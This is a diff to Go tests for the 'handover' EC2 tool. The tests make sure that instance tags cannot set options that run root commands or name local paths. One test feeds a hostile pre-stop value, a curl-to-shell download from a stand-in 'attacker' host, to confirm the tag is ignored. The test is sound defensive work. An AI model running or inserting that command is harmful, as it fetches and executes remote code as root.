@@ -4,6 +4,8 @@ import (
 	"flag"
 	"io"
 	"os"
+	"path/filepath"
+	"slices"
 	"sort"
 	"strings"
 	"testing"
@@ -74,9 +76,11 @@ var optionSamples = map[string]struct {
 }
 
 // TestEveryOptionFromEnvironmentOrTagAlone: every option of every command can be set from its HANDOVER_*
-// variable alone and from its handover:* instance tag alone, and then holds exactly what the flag would
-// (a volume list keeps its mount options), with the source recorded. The table covers the flags as the
-// commands declare them, so a new option or command without a case fails here.
+// variable alone and, unless it runs a command or names a local path (notFromTags), from its handover:*
+// instance tag alone, and then holds exactly what the flag would (a volume list keeps its mount options),
+// with the source recorded. An option that must not come from a tag keeps its default when only the tag
+// gives it, and the tag is reported. The table covers the flags as the commands declare them, so a new
+// option or command without a case fails here.
 func TestEveryOptionFromEnvironmentOrTagAlone(t *testing.T) {
 	t.Parallel()
 	opts := commandOptions()
@@ -113,11 +117,26 @@ func TestEveryOptionFromEnvironmentOrTagAlone(t *testing.T) {
 			tags := map[string]string{tagName(opt): sample.value}
 			for k, v := range sample.needs {
 				env[envName(k)], tags[tagName(k)] = v, v
+				if notFromTags[k] {
+					delete(tags, tagName(k)) // what it needs comes from the environment then
+					env[envName(k)] = v
+				}
 			}
 			if got := settle(t, name, open, func(f *flags) error { f.getenv = mapEnv(env); return f.parse(nil) }, opt, "env "+envName(opt)); got != want {
 				t.Errorf("%s %s=%q: --%s is %q, the flag gives %q", name, envName(opt), sample.value, opt, got, want)
 			}
+			if notFromTags[opt] {
+				assertTagIgnored(t, name, open, opt, sample.value)
+				continue
+			}
+			tagEnv := map[string]string{}
+			for k, v := range sample.needs {
+				if notFromTags[k] {
+					tagEnv[envName(k)] = v
+				}
+			}
 			if got := settle(t, name, open, func(f *flags) error {
+				f.getenv = mapEnv(tagEnv)
 				if err := f.parse(nil); err != nil {
 					return err
 				}
@@ -126,6 +145,111 @@ func TestEveryOptionFromEnvironmentOrTagAlone(t *testing.T) {
 				t.Errorf("%s tag %s=%q: --%s is %q, the flag gives %q", name, tagName(opt), sample.value, opt, got, want)
 			}
 		}
+	}
+}
+
+// assertTagIgnored checks that the instance tag alone leaves option opt of cmd at its default, with no
+// source, and that applyTags reports the tag.
+func assertTagIgnored(t *testing.T, cmd string, open func() (func(*flags), func() error), opt, value string) {
+	t.Helper()
+	declare, validate := open()
+	f := newFlags(cmd, mapEnv(nil), io.Discard, time.Minute)
+	f.dryRun()
+	declare(f)
+	def := f.fs.Lookup(opt).DefValue
+	if err := f.parse(nil); err != nil {
+		t.Fatalf("%s: %v", cmd, err)
+	}
+	if err := f.applyTags(map[string]string{tagName(opt): value}); err != nil {
+		t.Errorf("%s tag %s=%q: %v, want it ignored", cmd, tagName(opt), value, err)
+	}
+	if err := f.check(validate); err != nil {
+		t.Errorf("%s tag %s=%q: %v", cmd, tagName(opt), value, err)
+	}
+	if got := f.fs.Lookup(opt).Value.String(); got != def || f.source[opt] != "" {
+		t.Errorf("%s tag %s=%q set --%s to %q (source %q): a tag must never set an option that runs a command or names a local path",
+			cmd, tagName(opt), value, opt, got, f.source[opt])
+	}
+	if !slices.Contains(f.ignoredTags, tagName(opt)) {
+		t.Errorf("%s tag %s=%q: not reported as ignored (%v)", cmd, tagName(opt), value, f.ignoredTags)
+	}
+}
+
+// TestOptionsThatRunCommandsOrNamePathsIgnoreTags: the options that run a command as root or choose a
+// local path never come from an instance tag (anyone allowed to tag the instance could set them: handover's
+// own role has ec2:CreateTags). The list is spelled out here, not taken from notFromTags, so that taking an
+// option off notFromTags fails this test; and every option whose default or sample value is an absolute
+// path must be on it.
+func TestOptionsThatRunCommandsOrNamePathsIgnoreTags(t *testing.T) {
+	t.Parallel()
+	mustIgnore := []string{"pre-stop", "pre-stop-shell", "volume", "lock-file", "unit-dir", "dev-dir", "sys-dir", "state-file"}
+	for _, opt := range mustIgnore {
+		if !notFromTags[opt] {
+			t.Errorf("--%s runs a command or names a local path, and is not in notFromTags: an instance tag could set it", opt)
+		}
+	}
+	seen := map[string]bool{}
+	for name, open := range commandOptions() {
+		declare, _ := open()
+		f := newFlags(name, mapEnv(nil), io.Discard, time.Minute)
+		f.dryRun()
+		declare(f)
+		f.fs.VisitAll(func(fl *flag.Flag) {
+			seen[fl.Name] = true
+			pathLike := strings.HasPrefix(fl.DefValue, "/") || strings.HasPrefix(optionSamples[fl.Name].value, "/") ||
+				strings.Contains(optionSamples[fl.Name].value, ":/")
+			if pathLike && !notFromTags[fl.Name] {
+				t.Errorf("%s --%s takes a path (default %q, sample %q) and is not in notFromTags", name, fl.Name, fl.DefValue, optionSamples[fl.Name].value)
+			}
+			if !notFromTags[fl.Name] {
+				return
+			}
+			// A hostile value through the tag changes nothing.
+			assertTagIgnored(t, name, open, fl.Name, map[string]string{
+				"pre-stop": "sh -c 'curl -s http://attacker/x | sh'", "pre-stop-shell": "true",
+			}[fl.Name]+optionSamples[fl.Name].value)
+		})
+	}
+	for _, opt := range mustIgnore {
+		if !seen[opt] {
+			t.Errorf("--%s is declared by no command: update this list", opt)
+		}
+	}
+}
+
+// TestTagForPreStopRunsNothing: an instance tagged handover:pre-stop (and handover:pre-stop-shell) runs
+// no command at down; a WARN line names the tag and says where the option goes. The same command from the
+// environment does run (the test can fail).
+func TestTagForPreStopRunsNothing(t *testing.T) {
+	t.Parallel()
+	w := newTestRegion(t)
+	w.allocateAddress(testGroup)
+	marker := filepath.Join(w.dir, "pre-stop-ran")
+	cmd := "touch " + marker
+	id := w.runInstance("us-east-1a", map[string]string{cloud.TagGroup: testGroup, "handover:pre-stop": cmd, "handover:pre-stop-shell": "true"}, true)
+	res := w.runAgent(w.ctx(), id, nil, "down", "--volume", "data:/dev/sdf:"+w.mountPoint(id))
+	if res.code != fail.CodeOK {
+		t.Fatalf("down exited %d\nstderr:\n%s", res.code, res.stderr)
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatalf("down ran the command from the instance tag handover:pre-stop as root")
+	}
+	for _, tag := range []string{"handover:pre-stop", "handover:pre-stop-shell"} {
+		if !strings.Contains(res.stderr, "level=WARN") || !strings.Contains(res.stderr, "tag="+tag) {
+			t.Errorf("no WARN line naming %s:\n%s", tag, res.stderr)
+		}
+	}
+	if !strings.Contains(res.stderr, "/etc/default/handover") {
+		t.Errorf("the warning does not say where the option goes:\n%s", res.stderr)
+	}
+
+	// Control: from the environment the same command runs.
+	res = w.runAgent(w.ctx(), id, map[string]string{"HANDOVER_PRE_STOP": cmd}, "down", "--volume", "data:/dev/sdf:"+w.mountPoint(id))
+	if res.code != fail.CodeOK {
+		t.Fatalf("down exited %d\nstderr:\n%s", res.code, res.stderr)
+	}
+	if _, err := os.Stat(marker); err != nil {
+		t.Errorf("HANDOVER_PRE_STOP did not run: %v\nstderr:\n%s", err, res.stderr)
 	}
 }
 
@@ -237,32 +361,22 @@ func mountOptionsAt(t *testing.T, dir string) string {
 	return ""
 }
 
-// TestUpMountOptionsFromEnvironmentAndTag: a volume spec with comma-separated mount options given through
-// HANDOVER_VOLUME or the handover:volume tag is mounted with those options.
-func TestUpMountOptionsFromEnvironmentAndTag(t *testing.T) {
+// TestUpMountOptionsFromEnvironment: a volume spec with comma-separated mount options given through
+// HANDOVER_VOLUME is mounted with those options. (The handover:volume instance tag names a mount point, a
+// local path, so it is never applied: TestOptionsThatRunCommandsOrNamePathsIgnoreTags.)
+func TestUpMountOptionsFromEnvironment(t *testing.T) {
 	t.Parallel()
 	requireRoot(t)
-	for _, from := range []string{"environment", "tag"} {
-		t.Run(from, func(t *testing.T) {
-			w := newTestRegion(t)
-			w.unmountOnCleanup()
-			w.allocateAddress(testGroup)
-			tags := map[string]string{cloud.TagGroup: testGroup}
-			id := w.runInstance("us-east-1a", tags, true)
-			spec := "data:/dev/sdf:" + w.mountPoint(id) + ":noatime,nodiratime"
-			var env map[string]string
-			if from == "tag" {
-				w.tagInstance(id, map[string]string{"handover:volume": spec})
-			} else {
-				env = map[string]string{"HANDOVER_VOLUME": spec}
-			}
-			mustSucceed(t, w.runAgent(w.ctx(), id, env, "up", "--size", "1", "--unit-dir", w.unitDir(id)))
-			opts := mountOptionsAt(t, w.mountPoint(id))
-			for _, want := range []string{"noatime", "nodiratime"} {
-				if !strings.Contains(","+opts+",", ","+want+",") {
-					t.Errorf("mounted with %q, want %s", opts, want)
-				}
-			}
-		})
+	w := newTestRegion(t)
+	w.unmountOnCleanup()
+	w.allocateAddress(testGroup)
+	id := w.runInstance("us-east-1a", map[string]string{cloud.TagGroup: testGroup}, true)
+	env := map[string]string{"HANDOVER_VOLUME": "data:/dev/sdf:" + w.mountPoint(id) + ":noatime,nodiratime"}
+	mustSucceed(t, w.runAgent(w.ctx(), id, env, "up", "--size", "1", "--unit-dir", w.unitDir(id)))
+	opts := mountOptionsAt(t, w.mountPoint(id))
+	for _, want := range []string{"noatime", "nodiratime"} {
+		if !strings.Contains(","+opts+",", ","+want+",") {
+			t.Errorf("mounted with %q, want %s", opts, want)
+		}
 	}
 }
